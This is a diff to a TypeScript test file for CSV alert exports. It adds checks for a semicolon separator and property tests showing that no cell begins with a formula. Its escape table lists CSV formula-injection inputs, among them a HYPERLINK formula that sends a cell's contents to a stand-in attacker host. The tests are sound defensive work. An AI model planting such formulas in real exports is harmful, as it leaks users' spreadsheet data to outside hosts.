@@ -1,8 +1,10 @@
 import { randomUUID } from "node:crypto";
+import fc from "fast-check";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { type CsvSeparator, csvFile, csvSeparators } from "../../src/spreadsheet/csv.js";
 import { createAlertRule, createAlerts, createApiKey, createCamera, createFacility, createWorkspace } from "../support/factories.js";
 import { type Gateway, type Sender, startGateway } from "../support/harness.js";
-import { columns, csvRecords, type ExportFormat, exportedRows, fileOf, jsonLines, linkTo, pathOf } from "./exports.js";
+import { cellsOf, columns, csvRecords, type ExportFormat, exportedRows, fileOf, jsonLines, linkTo, pathOf } from "./exports.js";
 import { exceljsRows, workbookOf } from "./workbook.js";
 
 const now = new Date("2026-11-20T12:34:56.000Z");
@@ -91,6 +93,38 @@ describe("CSV", () => {
     expect(records[0]?.at(-1)).toBe("A person,\nin the zone");
   });
 
+  it("is separated by semicolons if asked for, and has the same records", async () => {
+    const query = "query ($filter: AlertFilter!, $separator: String) { exportAlerts(filter: $filter, format: CSV, separator: $separator) { url } }";
+    const file = async (separator: string | null) => {
+      const { exportAlerts } = await gateway.data<{ exportAlerts: { url: string } }>(query, { as, variables: { filter: allTime, separator } });
+      return fileOf(await gateway.fetch(pathOf(exportAlerts.url)));
+    };
+    const withSemicolons = await file(";");
+    expect(String(withSemicolons.subarray(3))).toMatch(/^Local time;UTC time;Facility;/);
+    expect(csvRecords(withSemicolons, ";")).toEqual(csvRecords(await file(null)));
+    for (const separator of ["", "\t", ",;"]) {
+      const { errors } = await gateway.graphql(query, { as, variables: { filter: allTime, separator } });
+      expect(errors).toMatchObject([{ extensions: { code: "BAD_REQUEST", details: [{ path: "separator", message: "must be , or ;" }] } }]);
+    }
+  });
+
+  it("begins no formula in any cell, whichever separator a program splits at", () => {
+    const unit = fc.constantFrom(..."=+-@＝－﹦\t\r\n ,;\"'x1\u200b\u2800\u3164\ufeff\u00a0\u0001");
+    const rows = fc.array(fc.array(fc.string({ unit, maxLength: 8 }), { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 3 });
+    const check = (texts: string[][], separator: CsvSeparator) => {
+      const { head, lineOf } = csvFile<string[]>(
+        [0, 1, 2].map((index) => ({ header: "x", width: 1, value: (row) => row[index] as string })),
+        separator,
+      );
+      const file = head + texts.map(lineOf).join("");
+      for (const split of csvSeparators) for (const cell of cellsOf(file, split)) expect(cell).not.toMatch(/^[\s\p{DI}\u2800]*[=+\-@＝－﹦]/u);
+      const own = csvRecords(Buffer.from(file), separator).slice(1);
+      const plain = (text: string) => text.replaceAll("'", "").replaceAll("\u0001", "\ufffd");
+      expect(own.map((record) => record.map(plain))).toEqual(texts.map((row) => row.map(plain)));
+    };
+    fc.assert(fc.property(rows, fc.constantFrom(...csvSeparators), check), { numRuns: 2000 });
+  });
+
   it("has only the header if nothing matches", async () => {
     expect(csvRecords(await exported("CSV", { types: [] }))).toEqual([columns]);
   });
@@ -101,7 +135,16 @@ describe("CSV", () => {
     ["-1", "'-1"],
     ["@SUM(A1)", "'@SUM(A1)"],
     ["\t=1+1", "'\t=1+1"],
-    ["\r=1+1", "'\r=1+1"],
+    // A program that splits at the other separator cuts the text at the line break.
+    ["\r=1+1", "'\r'=1+1"],
+    ["one\n=1+1", "one\n'=1+1"],
+    ["x;=1+1", "x;'=1+1"],
+    ["x, -1", "x,' -1"],
+    [" =1+1", "' =1+1"],
+    ["\u200b\u2800+1", "'\u200b\u2800+1"],
+    ["＝1+1", "'＝1+1"],
+    ["x;\ufeff＠SUM(A1)", "x;'\ufeff＠SUM(A1)"],
+    ['x;"=1', `x;'"=1`],
     ["'=1", "'=1"],
     ["a=1", "a=1"],
     ['=HYPERLINK("https://evil.example/?x="&A1,"Open")', `'=HYPERLINK("https://evil.example/?x="&A1,"Open")`],
